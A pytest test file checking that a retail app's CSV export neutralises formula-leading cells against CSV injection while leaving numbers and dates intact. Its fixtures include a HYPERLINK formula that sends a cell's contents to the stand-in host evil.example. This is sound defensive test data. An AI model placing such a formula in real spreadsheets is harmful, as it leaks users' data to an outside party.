"""CSV exports neutralise formula-leading text cells (OWASP CSV injection) and leave numbers alone."""

import csv

import pandas as pd
import pytest

from retail_assets.reports.exports import spreadsheet_safe, write_csv_atomic


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "-5",
                                  '=HYPERLINK("https://evil.example/?"&B2,"Details")'])
def test_formula_leading_text_gets_a_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Mug", " =1", "a=b", "", "'=1", -5, -5.5, 0, None])
def test_other_values_are_unchanged(value):
    assert spreadsheet_safe(value) == value or (value is None and spreadsheet_safe(value) is None)


def test_the_csv_keeps_numbers_and_dates_and_quotes_formulas(tmp_path):
    frame = pd.DataFrame({
        "product_name": ['=HYPERLINK("https://evil.example/?"&B2,"Details")', "Mug", None],
        "code": ["-5", "@x", "\tTab"],  # text that looks like a number is still text: quoted
        "quantity": [-5, 3, 0], "revenue": [-5.25, 1.0, 2.5],
        "sale_date": pd.to_datetime(["2026-01-01", "2026-01-02", "2026-01-03"]),
    })
    path = write_csv_atomic(frame, tmp_path / "x.csv")
    with path.open(newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["'=HYPERLINK(\"https://evil.example/?\"&B2,\"Details\")", "'-5", "-5", "-5.25", "2026-01-01"]
    assert rows[2] == ["Mug", "'@x", "3", "1.0", "2026-01-02"]
    assert rows[3] == ["", "'\tTab", "0", "2.5", "2026-01-03"]
    assert frame.loc[0, "product_name"].startswith("="), "the caller's frame is not modified"
